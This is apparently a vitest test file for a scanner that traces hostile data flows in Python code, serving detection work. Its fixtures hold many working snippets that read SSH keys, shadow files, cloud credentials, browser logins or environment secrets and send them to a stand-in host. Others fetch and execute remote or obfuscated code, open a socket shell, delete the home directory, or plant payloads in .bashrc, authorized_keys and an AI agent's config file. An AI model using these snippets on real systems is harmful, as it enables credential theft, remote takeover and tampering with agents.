import { describe, expect, it } from 'vitest'
import { listFacts, listFlows, toExamples } from '../support/code-reading.ts'
import { readCodeText } from '../../packages/scanner/src/code/read-program.ts'

const sent = [
  'secret-read ~/.ssh/id_rsa → network-send https://e.example/c ⟸ import os, requests\nwith open(os.path.expanduser("~/.ssh/id_rsa")) as f:\n  key = f.read()\nrequests.post("https://e.example/c", data={"k": key})',
  'secret-read ~/.ssh/id_rsa → network-send https://e.example/c ⟸ import requests as r, base64\nfrom pathlib import Path\nk = (Path.home() / ".ssh" / "id_rsa").read_bytes()\nr.post("https://e.example/c", json={"k": base64.b64encode(k).decode()})',
  'secret-read ~/.ssh/id_rsa → network-send https://e.example/c ⟸ import os, urllib.request, json\np = os.path.join(os.environ["HOME"], ".ssh", "id_rsa")\nreq = urllib.request.Request("https://e.example/c", data=json.dumps({"k": open(p).read()}).encode())\nurllib.request.urlopen(req)',
  'secret-read ~/.ssh/id_rsa → network-send https://e.example/c ⟸ import httpx, os\nclass Box:\n  def __init__(self):\n    self.items = []\n  def fill(self):\n    for n in ("id_rsa", "x"):\n      self.items.append(open(os.path.expanduser("~/.ssh/" + n)).read())\n  def ship(self):\n    httpx.post("https://e.example/c", json=self.items)\nb = Box()\nb.fill()\nb.ship()',
  'secret-read /root/.ssh/id_rsa → network-send https://e.example/c ⟸ import aiohttp\nasync def go():\n  async with aiohttp.ClientSession() as s:\n    async with s.post("https://e.example/c", data=open("/root/.ssh/id_rsa", "rb")) as r:\n      return await r.text()',
  'secret-read /home/u/.ssh/id_rsa → network-send https://e.example/c ⟸ import subprocess\nk = open("/home/u/.ssh/id_rsa").read()\nsubprocess.run(["curl", "-d", k, "https://e.example/c"])',
  'secret-read /etc/shadow → network-send e.example ⟸ import socket\ns = socket.socket()\ns = socket.create_connection(("e.example", 443))\nfor line in open("/etc/shadow"):\n  s.sendall(line.encode())',
  'secret-read /root/.netrc → network-send e.example ⟸ import http.client\nc = http.client.HTTPSConnection("e.example")\nc.request("POST", "/c", body=open("/root/.netrc").read())',
  'secret-read http://169.254.169.254/latest/meta-data/iam/security-credentials/r → network-send https://e.example/c ⟸ import requests\nt = requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/r").json()\nrequests.post("https://e.example/c", json=t)',
  'secret-read $HOME/.config/google-chrome/Default/Login Data → network-send https://e.example/c ⟸ import shutil, sqlite3, os, requests\nsrc = os.path.expandvars("$HOME/.config/google-chrome/Default/Login Data")\nshutil.copy2(src, "/tmp/d")\nrequests.post("https://e.example/c", files={"f": open("/tmp/d", "rb")})',
  'secret-read a keychain → network-send https://e.example/c ⟸ import keyring, requests\nrequests.post("https://e.example/c", data=keyring.get_password("a", "b"))',
  'environment-read → network-send https://e.example/c ⟸ import os, requests\nrequests.post("https://e.example/c", json=dict(os.environ))',
  'environment-read → network-send https://e.example/c ⟸ import os, requests\nout = {}\nfor k, v in os.environ.items():\n  if "KEY" in k or "TOKEN" in k:\n    out[k] = v\ndef send(d):\n  requests.post("https://e.example/c", json=d)\nsend(out)',
  'environment-read → network-send https://e.example/c ⟸ from os import environ\nimport requests\nrequests.get("https://e.example/c", params={k: v for k, v in environ.items() if "SECRET" in k})',
  'environment-read → network-send ?.e.example ⟸ import os, socket\nfor k, v in os.environ.items():\n  socket.gethostbyname(v.encode().hex()[:60] + ".e.example")',
  'data-collected clipboard or screen → network-send https://e.example/c ⟸ import pyperclip, requests\nrequests.post("https://e.example/c", data=pyperclip.paste())',
  'data-collected ~ → network-send https://e.example/c ⟸ import os, io, zipfile, requests\nbuf = io.BytesIO()\nwith zipfile.ZipFile(buf, "w") as z:\n  for root, _, names in os.walk(os.path.expanduser("~")):\n    for name in names:\n      z.write(os.path.join(root, name))\nrequests.post("https://e.example/c", files={"f": buf.getvalue()})',
  'data-collected ~/Documents → network-send https://e.example/c ⟸ import shutil, os, requests\nshutil.make_archive("/tmp/a", "zip", os.path.expanduser("~/Documents"))\nrequests.put("https://e.example/c", data=open("/tmp/a.zip", "rb"))',
  'data-collected keystrokes → network-send https://e.example/c ⟸ import requests\nfrom pynput import keyboard\nkeys = []\ndef press(key):\n  keys.append(str(key))\n  requests.post("https://e.example/c", json={"k": "".join(keys)})\nkeyboard.Listener(on_press=press).start()',
  'data-collected /home/u/.zsh_history → network-send https://e.example/c ⟸ import requests\nrequests.post("https://e.example/c", data=open("/home/u/.zsh_history").read())',
  'variable-read AWS_SECRET_ACCESS_KEY → network-send https://e.example/c ⟸ import os, requests\nrequests.post("https://e.example/c", json={"a": os.getenv("AWS_SECRET_ACCESS_KEY")})',
]

const run = [
  'network-fetch https://e.example/a → dynamic-run ⟸ import requests\nexec(requests.get("https://e.example/a").text)',
  'network-fetch https://e.example/a → dynamic-run ⟸ from urllib.request import urlopen\ncode = urlopen("https://e.example/a").read().decode()\nexec(compile(code, "a", "exec"))',
  'network-fetch https://e.example/a → dynamic-run ⟸ import requests\ndef load(u):\n  r = requests.get(u)\n  return r.text if r.ok else ""\ne = eval\ne(load("https://e.example/a"))',
  'network-fetch https://e.example/a → dynamic-run pickle ⟸ import requests, pickle\npickle.loads(requests.get("https://e.example/a").content)',
  'network-fetch https://e.example/a → dynamic-run a command ⟸ import requests, subprocess\ncmd = requests.get("https://e.example/a").json()["run"]\nsubprocess.run(cmd, shell=True)',
  'network-fetch https://e.example/a → dynamic-run a command ⟸ import requests, subprocess\nsubprocess.run(["python3", "-c", requests.get("https://e.example/a").text])',
  'network-fetch https://e.example/a → program-run /tmp/u ⟸ import os, tempfile, requests, subprocess\np = os.path.join(tempfile.gettempdir(), "u")\nwith open(p, "wb") as f:\n  f.write(requests.get("https://e.example/a").content)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])',
  'network-fetch https://e.example/a → program-run /tmp/u.sh ⟸ from urllib.request import urlretrieve\nimport os\nurlretrieve("https://e.example/a", "/tmp/u.sh")\nos.system("/tmp/u.sh")',
  'decode base64 → dynamic-run ⟸ import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))',
  'decode base64 → dynamic-run ⟸ import base64 as b, zlib as z\n_ = lambda s: z.decompress(b.b64decode(s[::-1]))\nexec(_(b"==QAIDXb1QXsy5UTK1kUyV0MzUNycNTzUyUSUYhBgUFAKgBTEfr"))',
  'decode numbers → dynamic-run ⟸ exec("".join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))',
  'decode numbers → dynamic-run ⟸ exec("".join([chr(c ^ 7) for c in [119, 117, 110, 105, 115]]))',
  'decode numbers → dynamic-run ⟸ s = b"\\x77\\x75\\x6e"\no = ""\nfor c in s:\n  o += chr(c ^ 7)\neval(o)',
  'decode reversed → dynamic-run ⟸ exec(")1(tnirp"[::-1])',
  'decode reversed → dynamic-run ⟸ exec("".join(reversed(")1(tnirp")))',
  'decode numbers → dynamic-run ⟸ x = __import__("builtins")\nx.__dict__["exec"](bytes([105, 109, 112]).decode())',
  'decode rot13 → dynamic-run ⟸ import codecs\nexec(codecs.decode("cevag(1)", "rot13"))',
  'decode hex → dynamic-run ⟸ exec(bytes.fromhex("7072696e74283129").decode())',
  'decode base64 → program-run id ⟸ import os, base64\nos.system(base64.b64decode("aWQ=".strip()).decode())',
  'decode marshal → dynamic-run ⟸ import marshal, types\ncode = marshal.loads(b"\\xe3\\x00\\x00\\x00\\x00")\ntypes.FunctionType(code, {})()',
  'network-fetch https://e.example/a → startup-write ~/.bashrc ⟸ import requests, os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n  f.write(requests.get("https://e.example/a").text)',
  'network-fetch https://e.example/a → agent-config-write ~/.claude/CLAUDE.md ⟸ import requests\nfrom pathlib import Path\n(Path.home() / ".claude" / "CLAUDE.md").write_text(requests.get("https://e.example/a").text)',
]

const commands = [
  'secret-read ~/.ssh/id_rsa → network-send https://e.example/c ⟸ import os\nos.system("cat ~/.ssh/id_rsa | curl -d @- https://e.example/c")',
  'secret-read ~/.ssh/id_rsa → network-send https://e.example/c ⟸ import subprocess, requests\nk = subprocess.check_output("cat ~/.ssh/id_rsa", shell=True)\nrequests.post("https://e.example/c", data=k)',
  'secret-read ~/.ssh/id_rsa → network-send https://e.example/c ⟸ import subprocess, requests\nk = subprocess.run(["cat", "/root/.ssh/id_rsa"], capture_output=True).stdout\nrequests.post("https://e.example/c", data=k)',
  'environment-read → network-send https://e.example/c ⟸ import subprocess, requests\nrequests.post("https://e.example/c", data=subprocess.getoutput("env"))',
  `secret-read ~/.ssh/id_rsa → network-send https://e.example/c ⟸ import os\nos.system("python3 -c 'import os; os.system(\\"cat ~/.ssh/id_rsa | curl -d @- https://e.example/c\\")'")`,
]

describe('a value of a Python program', () => {
  it.each(toExamples(commands))('is followed through commands of a shell: $program', ({ program, found }) => {
    expect(listFlows(readCodeText('python', program))).toEqual(expect.arrayContaining(found))
  })

  it('is found in bounded time if commands and programs start each other', () => {
    const program = 'import os\ns = "python3 -c \'import os; os.system(open(1).read())\'"\nos.system(s + s)\n'
    expect(readCodeText('python', program.repeat(300)).facts.length).toBeGreaterThan(0)
  })

  it.each(toExamples([...sent, ...run]))('is followed from source to use: $program', ({ program, found }) => {
    expect(listFlows(readCodeText('python', program))).toEqual(expect.arrayContaining(found))
  })

  it.each(
    toExamples([
      `an own key in a header ⟸ import os, requests\nrequests.post("https://api.e.example/", headers={"Authorization": f"Bearer {os.environ['E_API_KEY']}"}, json={"q": 1})`,
      'the environment of a child process ⟸ import os, subprocess, requests\nenv = {**os.environ, "A": "1"}\nsubprocess.run(["git", "status"], env=env)\nrequests.post("https://e.example/", json={"a": 1})',
      'a variable that chooses the host ⟸ import os, requests\nenv = dict(os.environ)\nrequests.post(env["BASE_URL"], json={"a": 1})',
      'a public key ⟸ import requests\nrequests.post("https://e.example/", data=open("/home/u/.ssh/id_rsa.pub").read())',
      'fetched data that is parsed ⟸ import requests, json\ndata = json.loads(requests.get("https://e.example/").text)\nprint(eval("1 + 1"), data)',
      'a fetched version in a fixed command ⟸ import requests, subprocess\nv = requests.get("https://e.example/").json()["v"]\nsubprocess.run(["echo", v])',
      'a decoded picture ⟸ import base64\nopen("a.png", "wb").write(base64.b64decode("iVBORw0KGgoAAAANSUhEUg=="))\nexec(open("b.py").read())',
      'a name of the same form in another function ⟸ import requests\ndef a():\n  key = open("/root/.netrc").read()\n  return len(key)\ndef b():\n  key = "public"\n  requests.post("https://e.example/", data=key)',
    ]),
  )('has no flow: $found', ({ program }) => {
    expect(listFlows(readCodeText('python', program))).toEqual([])
  })
})

describe('an operation of a Python program', () => {
  it.each(
    toExamples([
      'hidden-name os.system ⟸ getattr(__import__("o" + "s"), "sys" + "tem")("id")',
      'hidden-name builtins.eval ⟸ __builtins__["ev" + "al"]("1")',
      'program-run id ⟸ import importlib\nm = importlib.import_module("sub" + "process")\nm.run("id")',
      'shell-connected ⟸ import os, socket\ns = socket.socket()\ns.connect(("e.example", 1))\nos.dup2(s.fileno(), 0)',
      'privilege-change setuid ⟸ import os\nos.chmod("/tmp/a", 0o4755)',
      'privilege-change TLS ⟸ import ssl\nc = ssl._create_unverified_context()',
      'destruction ~ ⟸ import shutil, pathlib\nshutil.rmtree(pathlib.Path.home())',
      'package-install ? -m pip install x ⟸ import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "x"])',
      'startup-write ~/.ssh/authorized_keys ⟸ from pathlib import Path\nwith (Path.home() / ".ssh" / "authorized_keys").open("a") as f:\n  f.write("k")',
      `program-run id ⟸ exec("import os\\nos.system('id')")`,
      `program-run id ⟸ import subprocess\nsubprocess.run("python3 -c import(1)".split())\nsubprocess.run(["python3", "-c", "import os; os.system('id')"])`,
    ]),
  )('is found: $program', ({ program, found }) => {
    expect(listFacts(readCodeText('python', program))).toEqual(expect.arrayContaining(found))
  })

  it.each([`"`, `'`])('is read in full if its command is joined from hundreds of strings in %s', (quote) => {
    const command = `echo ${'abcdefgh '.repeat(400)}; cat ~/.ssh/id_rsa`
    const pieces = command.match(/.{1,8}/g)!.map((piece) => `${quote}${piece}${quote}`)
    const { texts } = readCodeText('python', `import os\nos.system(${pieces.join(' + ')})\nprint("done")\n`)
    expect(texts).toMatchObject([{ text: command, decoded: ['concatenation'] }])
  })

  it('is found in a text that the program decodes', () => {
    const { texts } = readCodeText(
      'python',
      'import base64\nx = base64.b64decode("aW1wb3J0IG9z" + "CmltcG9ydCBzeXM=")\n',
    )
    expect(texts).toMatchObject([{ text: 'import os\nimport sys', decoded: ['base64', 'concatenation'] }])
  })
})
